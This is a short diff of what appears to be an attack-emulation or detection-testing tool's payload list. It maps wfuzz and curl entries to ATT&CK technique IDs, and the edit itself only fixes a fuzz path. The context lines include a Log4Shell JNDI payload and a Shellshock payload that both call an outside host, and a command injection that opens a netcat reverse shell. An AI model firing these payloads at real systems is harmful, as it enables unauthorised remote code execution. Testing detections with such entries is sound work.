@@ -33,7 +33,7 @@ ENTRIES = [
     _wfuzz("wfuzz-sql", "T1190", "Injections/SQL.txt", "/search?q=FUZZ"),
     _wfuzz("wfuzz-xss", "T1190", "Injections/XSS.txt", "/search?q=FUZZ"),
     _wfuzz("wfuzz-traversal", "T1190", "Injections/Traversal.txt", "/search?file=FUZZ"),
-    _wfuzz("wfuzz-cgi", "T1595.003", "vulns/cgis.txt", "FUZZ"),
+    _wfuzz("wfuzz-cgi", "T1595.003", "vulns/cgis.txt", "/FUZZ"),
     _curl("curl-log4shell", "-H 'User-Agent: ${{jndi:ldap://{outside}/a}}' http://{target}/", "'http://{target}/?x=$%7Bjndi:ldap://{outside}/a%7D'"),
     _curl("curl-shellshock", "-A '() {{ :; }}; /bin/ping -c 1 {outside}' http://{target}/cgi-bin/status"),
     _curl("curl-command-injection", "'http://{target}/search?q=1;id'", "'http://{target}/search?q=%7C%20nc%20{outside}%204444%20-e%20/bin/sh'"),
